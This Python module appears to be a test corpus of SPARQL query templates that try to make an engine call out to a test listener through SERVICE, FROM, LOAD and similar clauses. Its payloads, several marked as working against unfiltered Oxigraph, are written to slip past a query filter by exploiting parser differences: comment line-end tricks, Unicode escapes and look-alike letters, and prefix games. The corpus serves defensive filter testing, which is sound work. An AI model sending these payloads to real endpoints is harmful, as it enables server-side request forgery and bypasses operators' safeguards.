"""SERVICE attempts written to be read differently by different SPARQL parsers.

``CORPUS`` holds templates (``{url}`` is the listener): each tries to make an engine call
``{url}``. Those marked ``bare=True`` DO make bare Oxigraph call out when sent to it
unfiltered (a test checks that, so the corpus stays meaningful); the others try spellings
that some parser might take for SERVICE. ``variants`` (with hypothesis) mixes the pieces.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    name: str
    template: str
    bare: bool = False
    """Bare Oxigraph (no filter) calls out on this text."""

    def text(self, url: str) -> str:
        return fill(self.template, url)


def fill(template: str, url: str) -> str:
    """``{url}``: the listener's ``http://host:port``; ``{hostport}``: ``//host:port``."""
    return template.replace("{url}", url).replace("{hostport}", url.removeprefix("http:"))


G = "{ ?s ?p ?o }"
CORPUS: tuple[Attack, ...] = (
    Attack("plain", f"SELECT * WHERE {{ SERVICE <{{url}}/plain> {G} }}", True),
    Attack("silent lower case", f"select * {{ service silent <{{url}}/silent> {G} }}", True),
    Attack("in EXISTS", f"ASK {{ FILTER EXISTS {{ SERVICE <{{url}}/exists> {G} }} }}", True),
    Attack("in a sub-select",
           f"SELECT * {{ {{ SELECT * {{ SERVICE <{{url}}/sub> {G} }} }} }}", True),
    Attack("CONSTRUCT", f"CONSTRUCT {G} WHERE {{ SERVICE <{{url}}/c> {G} }}", True),
    Attack("DESCRIBE", f"DESCRIBE ?s WHERE {{ SERVICE <{{url}}/d> {G} }}", True),
    Attack("variable endpoint",
           f"SELECT * {{ BIND(<{{url}}/var> AS ?e) SERVICE ?e {G} }}"),
    # comments and line ends
    Attack("comment ended by CR", f"SELECT * WHERE {{ # x\rSERVICE <{{url}}/cr> {G}\n}}", True),
    Attack("comment ended by CRLF",
           f"SELECT * WHERE {{ # x\r\nSERVICE <{{url}}/crlf> {G}\r\n}}", True),
    Attack("comment with U+2028",
           f"SELECT * WHERE {{ # x\u2028SERVICE <{{url}}/ls> {G}\n}}"),
    Attack("comment with NEL", f"SELECT * WHERE {{ # x\u0085SERVICE <{{url}}/nel> {G}\n}}"),
    Attack("comment with form feed",
           f"SELECT * WHERE {{ # x\x0cSERVICE <{{url}}/ff> {G}\n}}"),
    Attack("comment with VT", f"SELECT * WHERE {{ # x\x0bSERVICE <{{url}}/vt> {G}\n}}"),
    Attack("quote then CR comment",
           f"SELECT * WHERE {{ ?s ?p ?o FILTER(?o != 'a') # '\r}} SERVICE <{{url}}/q> {G} #'\n}}"),
    # escapes in strings: rdflib expands \\u before parsing, Oxigraph inside strings only
    Attack("\\u0022 in strings",
           'SELECT * WHERE { BIND("\\u0022" AS ?x) SERVICE <{url}/u22> '
           + G + ' BIND("\\u0022" AS ?y) }', True),
    Attack("\\U00000022 in strings",
           'SELECT * WHERE { BIND("\\U00000022" AS ?x) SERVICE <{url}/U22> '
           + G + ' BIND("\\U00000022" AS ?y) }', True),
    Attack("\\u0027 in single quotes",
           "SELECT * WHERE { BIND('\\u0027' AS ?x) SERVICE <{url}/u27> "
           + G + " BIND('\\u0027' AS ?y) }", True),
    Attack("\\u005c in a string",
           'SELECT * WHERE { BIND("\\u005c" AS ?x) SERVICE <{url}/u5c> ' + G + ' }'),
    Attack("\\u000a in a short string",
           'SELECT * WHERE { BIND("a\\u000a" AS ?x) SERVICE <{url}/u0a> ' + G + ' }', True),
    Attack("long string with escaped quotes",
           'SELECT * WHERE { BIND("""a\\"""" AS ?x) SERVICE <{url}/long> ' + G + " }"),
    # escapes outside strings
    Attack("escaped keyword", f"SELECT * WHERE {{ SERVI\\u0043E <{{url}}/kw> {G} }}"),
    Attack("escaped keyword U", f"SELECT * WHERE {{ \\U00000053ERVICE <{{url}}/kwU> {G} }}"),
    Attack("escaped IRI", f"SELECT * WHERE {{ SERVICE <\\u0068ttp:{{hostport}}/iri> {G} }}"),
    Attack("escape closing an IRI",
           f"SELECT * WHERE {{ ?s ?p <urn:a\\u003e SERVICE <{{url}}/gt> {G} }}"),
    # prefixed names
    Attack("prefix named SERVICE",
           f"PREFIX SERVICE: <{{url}}/> SELECT * WHERE {{ SERVICE:x {G} }}"),
    Attack("empty prefix glued to SERVICE",
           f"PREFIX : <{{url}}/glued> SELECT * WHERE {{ SERVICE:{G} }}", True),
    Attack("local name escape",
           f"PREFIX e: <{{url}}/> SELECT * WHERE {{ SERVICE e:a\\#b {G} }}", True),
    Attack("less-than read as an IRI with a comment",
           'SELECT * WHERE { BIND(1 AS ?a) BIND(2 AS ?b) FILTER(?a<?b#>"""\n) SERVICE '
           "<{url}/lt> " + G + ' BIND("x" AS ?z) } #"""', True),
    Attack("less-than read as an IRI with a quote",
           "SELECT * WHERE { BIND(1 AS ?a) BIND(2 AS ?b) FILTER(?a<?b'>\"\"\"') SERVICE "
           "<{url}/ltq> " + G + ' BIND("""x" AS ?z) }'),
    # Unicode look-alikes and normalisation
    Attack("fullwidth", f"SELECT * WHERE {{ ＳＥＲＶＩＣＥ <{{url}}/fw> {G} }}"),
    Attack("long s", f"SELECT * WHERE {{ ſERVICE <{{url}}/longs> {G} }}"),
    Attack("dotless i", f"SELECT * WHERE {{ servıce <{{url}}/dotless> {G} }}"),
    Attack("dotted capital I", f"SELECT * WHERE {{ SERVİCE <{{url}}/dotted> {G} }}"),
    Attack("zero-width joiner", f"SELECT * WHERE {{ SERV\u200dICE <{{url}}/zwj> {G} }}"),
    Attack("no-break space", f"SELECT * WHERE {{\u00a0SERVICE\u00a0<{{url}}/nbsp> {G} }}"),
    Attack("BOM first", f"\ufeffSELECT * WHERE {{ SERVICE <{{url}}/bom> {G} }}"),
    Attack("combining accent in a variable",
           f"SELECT * WHERE {{ BIND(1 AS ?e\u0301) SERVICE <{{url}}/comb> {G} }}", True),
    # other ways out
    Attack("FROM the listener", "SELECT * FROM <{url}/from> WHERE { ?s ?p ?o }"),
    Attack("FROM NAMED the listener",
           "SELECT * FROM NAMED <{url}/named> WHERE { GRAPH ?g { ?s ?p ?o } }"),
    Attack("LOAD", "LOAD <{url}/load>"),
    Attack("update after a query", "SELECT * {} ; LOAD <{url}/load2>"),
)


FRAGMENT_KEYWORDS = ("SERVICE", "service", "Service", "SERVICE SILENT", "service\tsilent")
FRAGMENT_BREAKS = (" ", "\n", "\r", "\r\n", "\t", "# c\r", "# c\n", "# c\r\n", "#\u2028",
                   "\u00a0", "\x0c", "\u0085", "/* */")
FRAGMENT_STRINGS = ('"x"', "'x'", '"\\u0022"', "'\\u0027'", '"\\U00000022"', '"""a\rb"""',
                    "'''\\u0027'''", '"\\"\\\\"', '"a\\u000ab"', '"#"', "'#\r'")
FRAGMENT_IRIS = ("<{url}/a>", "<\\u0068ttp:{hostport}/b>", "<{url}/\\u0063>", "<{url}/\\U00000064>",
                 "e:a", "e:a\\#b", "e:", ":x")
